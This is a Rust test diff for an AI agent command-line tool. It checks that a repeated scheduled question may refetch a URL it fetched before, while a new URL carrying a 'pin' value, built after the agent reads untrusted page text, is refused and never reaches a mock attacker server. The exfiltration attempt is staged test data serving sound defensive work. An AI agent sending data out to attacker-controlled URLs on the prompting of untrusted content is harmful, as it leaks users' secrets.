@@ -537,3 +537,40 @@ fn data_in_the_user_part_a_fragment_or_spread_over_calls_is_refused() {
         .iter()
         .all(|g| g["ran"] == false));
 }
+
+#[test]
+fn a_task_asked_again_in_its_session_may_fetch_what_it_fetched_before() {
+    // A scheduled question runs in its own session: the second run's history holds the
+    // first run's page (world text), but the URL it builds again was sent already.
+    let attacker = Attacker::start("Sunny, 21 degrees.");
+    let w = world("prov-task-again", "");
+    let url = attacker.url("/weather/Hangzhou");
+    w.fake
+        .push(tool_call("http_get", &json!({ "url": url }).to_string()));
+    w.fake.push(Reply::text("Sunny."));
+    let first = w
+        .run(&["ask", "--json", "--allow", "L1", "Weather in Hangzhou?"])
+        .expect(0);
+    let session = first.json()["session"].as_str().unwrap().to_string();
+    w.fake
+        .push(tool_call("http_get", &json!({ "url": url }).to_string()));
+    w.fake.push(Reply::text("Sunny again."));
+    let args = [
+        "ask",
+        "--json",
+        "--allow",
+        "L1",
+        "--session",
+        &session,
+        "Weather in Hangzhou?",
+    ];
+    w.run(&args).expect(0);
+    assert_eq!(attacker.seen().len(), 2, "{:?}", attacker.seen());
+    // Something new built after the page is asked (refused here): not sent before.
+    let other = attacker.url("/weather/Hangzhou?pin=4921");
+    w.fake
+        .push(tool_call("http_get", &json!({ "url": other }).to_string()));
+    w.fake.push(Reply::text("Hm."));
+    w.run(&args).expect(4);
+    assert_eq!(attacker.seen().len(), 2, "{:?}", attacker.seen());
+}
